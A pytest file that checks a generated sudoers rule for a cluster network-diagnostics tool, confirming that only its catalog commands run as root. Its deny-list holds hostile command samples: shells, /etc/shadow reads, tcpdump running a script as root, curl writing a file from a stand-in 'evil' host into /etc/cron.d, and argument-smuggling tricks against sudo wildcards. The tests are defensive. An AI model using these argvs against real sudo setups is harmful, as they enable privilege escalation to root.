"""`PODNET_SSH_SUDO=1` needs a sudoers rule on the nodes: `deploy/sudoers/podnet` allows exactly the
catalog's commands. Every command the catalog can build must match it (a new builder without its line
fails here), nothing else may (a shell, `timeout`, a write), and visudo must accept the file."""

from __future__ import annotations

import inspect
import re
import shutil
import subprocess
from pathlib import Path

import pytest

from checks.remote import catalog
from checks.remote.batch import as_root, build_script
from checks.remote.catalog import CatalogCommand
from checks.remote.sudoers import PATTERNS, allows, render

ROOT = Path(__file__).resolve().parents[2]


def every_catalog_command() -> dict[str, list[CatalogCommand]]:
    """Each builder of the catalog, called with real arguments (every variant)."""
    c = catalog
    return {
        "ip_route": [c.ip_route()],
        "ip_route_get": [c.ip_route_get("10.40.52.149")],
        "ip_link": [c.ip_link()],
        "ip_addr": [c.ip_addr()],
        "ip_link_details": [c.ip_link_details("vxlan.calico")],
        "ipvsadm_list": [c.ipvsadm_list()],
        "iptables_nat": [c.iptables_nat()],
        "ethtool_offloads": [c.ethtool_offloads("eth0")],
        "uname": [c.uname()],
        "dig": [c.dig("10.96.0.10", "kubernetes.default.svc.cluster.local"), c.dig("10.40.52.149", "x.y", tcp=True)],
        "tcpdump": [
            c.tcpdump("eth0", c.vxlan_filter("10.41.1.21"), seconds=5, packets=200),
            c.tcpdump("eth0", c.vxlan_filter("10.41.1.21"), seconds=5, packets=200, verbose=True),
            c.tcpdump("eth0", c.ipip_filter("10.41.1.21", "10.40.52.149"), seconds=5, packets=200),
        ],
        "kube_proxy_healthz": [c.kube_proxy_healthz()],
        "legacy_iptables_tables": [c.legacy_iptables_tables()],
        "iptables_save_filter": [c.iptables_save_filter("legacy"), c.iptables_save_filter("nft")],
        "conntrack_proc_stat": [c.conntrack_proc_stat()],
        "conntrack_stats": [c.conntrack_stats()],
        "conntrack_fill": [c.conntrack_fill()],
        "read_again": [c.read_again(c.conntrack_stats(), "second_reading")],
        "ip_netns_list": [c.ip_netns_list()],
        "ip_rule": [c.ip_rule()],
        "dig_in_netns": [c.dig_in_netns("cni-1234-abcd", "10.96.0.10", "default-keystone.onecloud.svc.cluster.local")],
        "iptables_filter": [c.iptables_filter()],
        "forwarding_sysctls": [c.forwarding_sysctls()],
        "iptables_raw": [c.iptables_raw()],
        "node_resolv_conf": [c.node_resolv_conf()],
        "http_health": [c.http_health("169.254.20.10", 8080)],
        "resolv_conf": [c.resolv_conf("/etc/resolv.conf"), c.resolv_conf("/run/systemd/resolve/resolv.conf")],
        "upstream_dig": [c.upstream_dig("10.41.0.2", "kubernetes.io")],
    }


def _builders() -> set[str]:
    return {
        name
        for name, fn in inspect.getmembers(catalog, inspect.isfunction)
        if fn.__module__ == catalog.__name__ and inspect.signature(fn).return_annotation in ("CatalogCommand",)
    }


def _under_sudo(command: CatalogCommand) -> tuple[str, ...]:
    """What runs as root: the command, without the capture's own `timeout N` (kept outside sudo)."""
    return command.argv[2:] if command.argv[0] == "timeout" else command.argv


def test_every_builder_is_exercised_here() -> None:
    assert set(every_catalog_command()) == _builders()


@pytest.mark.parametrize("name", sorted(every_catalog_command()))
def test_every_catalog_command_is_allowed_as_podnet_runs_it(name: str) -> None:
    for command in every_catalog_command()[name]:
        assert allows(_under_sudo(command)), command.line
        assert "sudo -n timeout" not in as_root(command)
        script, _ = build_script([command], sudo=True)
        assert f"sudo -n {shlex_join(_under_sudo(command))}" in script


def shlex_join(argv: tuple[str, ...]) -> str:
    import shlex

    return shlex.join(argv)


NOT_ALLOWED: list[tuple[str, ...]] = [
    ("sh", "-c", "id"),
    ("timeout", "5", "sh"),
    ("ip", "route", "add", "10.0.0.0/8", "via", "1.2.3.4"),
    ("iptables", "-F"),
    ("cat", "/etc/shadow"),
    ("sysctl", "-w", "net.ipv4.ip_forward=0"),
    ("ethtool", "-K", "eth0", "gso", "off"),
    ("tcpdump", "-w", "/etc/cron.d/x", "-i", "eth0"),
    # sudo joins the arguments with spaces: a wildcard `*` there matched these (root on every node)
    ("nsenter", "--net=/var/run/netns/x", "/bin/sh", "-c", "id>/tmp/p", "dig", "+time=1", "+tries=1", "@1.1.1.1", "A"),
    (
        "tcpdump",
        "-i",
        "lo",
        "-nn",
        "-l",
        "-c",
        "1",
        "-w",
        "/tmp/o",
        "-W",
        "1",
        "-G",
        "1",
        "-z",
        "/tmp/x.sh",
        "-Z",
        "root",
        "udp",
    ),
    (
        "curl",
        "-sS",
        "-m",
        "2",
        "-o",
        "/dev/null",
        "-w",
        "%{http_code}",
        "http://1.1.1.1:1/",
        "-o",
        "/etc/cron.d/x",
        "http://evil:80/health",
    ),
    ("dig", "+time=1", "+tries=1", "@1.1.1.1", "-f", "/etc/shadow", "A"),
    # and their kin: extra arguments, file options, `--`, a second URL, a name that is an option
    ("ip", "route", "get", "1.1.1.1", "from", "2.2.2.2"),
    ("ip", "route", "flush"),
    ("ip", "-d", "link", "show", "eth0", "&&", "id"),
    ("ip", "-d", "link", "set", "eth0", "down"),
    ("ip", "-d", "link", "show", "eth0 down"),
    ("ethtool", "-k", "eth0", "-K", "eth0", "gso", "off"),
    ("ethtool", "-k", "--", "eth0"),
    ("iptables-save", "-t", "nat", "-M", "/tmp/x"),
    ("uname", "-r", "--", "-a"),
    ("dig", "+time=1", "+tries=1", "@1.1.1.1", "x.y", "A", "-f", "/etc/shadow"),
    ("dig", "+time=1", "+tries=1", "@1.1.1.1", "-f/etc/shadow", "A"),
    ("dig", "+time=1", "+tries=1", "@1.1.1.1", "x.y", "A", "+qr"),
    ("dig", "+time=1", "+tries=1", "-k", "/etc/shadow", "@1.1.1.1", "x.y", "A"),
    ("dig", "+time=1", "+tries=1", "@1.1.1.1", "--", "A"),
    ("dig", "+time=1", "+tries=1", "@1.1.1.1", "x.y\nA", "A"),
    ("nsenter", "--net=/var/run/netns/../../../proc/1/ns/net", "dig", "+time=1", "+tries=1", "@1.1.1.1", "x.y", "A"),
    (
        "nsenter",
        "--net=/var/run/netns/x",
        "--mount=/proc/1/ns/mnt",
        "dig",
        "+time=1",
        "+tries=1",
        "@1.1.1.1",
        "x.y",
        "A",
    ),
    ("nsenter", "--net=/var/run/netns/x", "dig", "+time=1", "+tries=1", "@1.1.1.1", "x.y", "A", "-f", "/etc/shadow"),
    ("nsenter", "--net=/var/run/netns/x", "--", "sh", "dig", "+time=1", "+tries=1", "@1.1.1.1", "x.y", "A"),
    ("tcpdump", "-i", "eth0", "-nn", "-l", "-c", "200", "udp and port 4789 and host 1.1.1.1", "-w", "/tmp/o"),
    ("tcpdump", "-i", "eth0", "-nn", "-l", "-c", "200", "-z", "/tmp/x.sh", "udp and port 4789 and host 1.1.1.1"),
    ("tcpdump", "-i", "eth0", "-nn", "-l", "-c", "200", "-w", "/tmp/o", "udp"),
    ("tcpdump", "-i", "eth0", "-nn", "-l", "-c", "200", "-F", "/etc/shadow"),
    ("tcpdump", "-i", "eth0", "-nn", "-l", "-c", "200", "--", "udp and port 4789 and host 1.1.1.1"),
    ("tcpdump", "-i", "eth0", "-nn", "-l", "-c", "0", "udp and port 4789 and host 1.1.1.1"),
    ("tcpdump", "-i", "eth0", "-nn", "-l", "-c", "1001", "udp and port 4789 and host 1.1.1.1"),
    ("tcpdump", "-i", "eth0", "-nn", "-l", "-c", "200", "udp and port 4789 and host 1.1.1.1 or tcp"),
    ("curl", "-sS", "-m", "2", "-o", "/dev/null", "-w", "%{http_code}", "http://1.1.1.1:80/health", "-o", "/etc/x"),
    ("curl", "-sS", "-m", "2", "-o", "/etc/cron.d/x", "-w", "%{http_code}", "http://1.1.1.1:80/health"),
    ("curl", "-sS", "-m", "2", "-o", "/dev/null", "-w", "%{http_code}", "http://evil:80/health"),
    (
        "curl",
        "-sS",
        "-m",
        "2",
        "-o",
        "/dev/null",
        "-w",
        "%{http_code}",
        "http://1.1.1.1:80/health",
        "http://1.1.1.1:80/health",
    ),
    ("curl", "-sS", "-m", "2", "-o", "/dev/null", "-w", "%{http_code}", "-K", "/tmp/c", "http://1.1.1.1:80/health"),
    ("curl", "-sS", "-m", "2", "-o", "/dev/null", "-w", "%{http_code}", "http://1.1.1.1:80/health/../x"),
    ("curl", "-s", "-m", "2", "-w", "\\n%{http_code}", "http://127.0.0.1:10256/healthz", "-o", "/etc/x"),
    ("cat", "/etc/resolv.conf", "/etc/shadow"),
    ("cat", "/etc/resolvXconf"),
    (
        "sysctl",
        "-r",
        "^net\\.ipv4\\.(ip_forward|conf\\..*\\.rp_filter)$",
        "net.ipv4.conf",
        "net.ipv4.ip_forward",
        "-w",
        "x=0",
    ),
    ("sysctl", "-a", "-r", "^net\\.ipv4\\.(ip_forward|conf\\..*\\.rp_filter)$"),  # the whole tree: not asked
    ("sysctl", "net.netfilter.nf_conntrack_count", "net.netfilter.nf_conntrack_max", "-p", "/tmp/x"),
    ("conntrack", "-S", "-F"),
]


@pytest.mark.parametrize("argv", NOT_ALLOWED)
def test_nothing_else_is_allowed(argv: tuple[str, ...]) -> None:
    assert not allows(argv)


def test_the_rule_s_expressions_are_whole_line_regular_expressions() -> None:
    """sudo reads arguments starting with `^` as one POSIX extended regular expression over the whole
    argument string (sudo >= 1.9.10); a wildcard `*` would match extra arguments, spaces included."""
    for _path, args in PATTERNS:
        assert args.startswith("^") and args.endswith("$"), args
        assert "#" not in args and len(args) <= 1024, args
        assert ".*" not in args.replace("\\.\\*", ""), args  # nothing that crosses an argument's end


def test_the_shipped_file_is_the_rendered_one_and_visudo_accepts_it(tmp_path: Path) -> None:
    shipped = ROOT / "deploy" / "sudoers" / "podnet"
    assert shipped.read_text() == render("podnet"), (
        "regenerate: python -m checks.remote.sudoers > deploy/sudoers/podnet"
    )
    visudo = shutil.which("visudo") or "/usr/sbin/visudo"
    assert Path(visudo).exists(), "visudo is missing: run `bash scripts/setup.sh` (it installs Debian's sudo)"
    checked = subprocess.run([visudo, "-cf", str(shipped)], capture_output=True, text=True, check=False)
    assert checked.returncode == 0, checked.stdout + checked.stderr


def test_posix_extended_regular_expressions_agree_with_allows() -> None:
    """sudo matches with POSIX extended regular expressions (regcomp), `allows` with Python's `re`: GNU grep -E
    in the C locale (sudo matches in sudoers' C locale) must accept and refuse exactly what `allows` does."""
    grep = shutil.which("grep")
    if grep is None:
        pytest.skip("no grep")
    argvs = [_under_sudo(c) for commands in every_catalog_command().values() for c in commands]
    argvs += [a for a in NOT_ALLOWED if not any("\n" in word for word in a)]
    for path, args in PATTERNS:
        name = path.rsplit("/", 1)[1]
        lines = [" ".join(a[1:]) for a in argvs if a[0] == name]
        found = subprocess.run(
            [grep, "-Exn", "-e", args],
            input="".join(f"{line}\n" for line in lines),
            capture_output=True,
            text=True,
            check=False,
            env={"LC_ALL": "C"},
        )
        assert found.returncode in (0, 1), found.stderr
        by_grep = {int(hit.split(":", 1)[0]) - 1 for hit in found.stdout.splitlines()}
        by_python = {i for i, line in enumerate(lines) if re.fullmatch(args, line)}
        assert by_grep == by_python, (args, [lines[i] for i in by_grep ^ by_python])
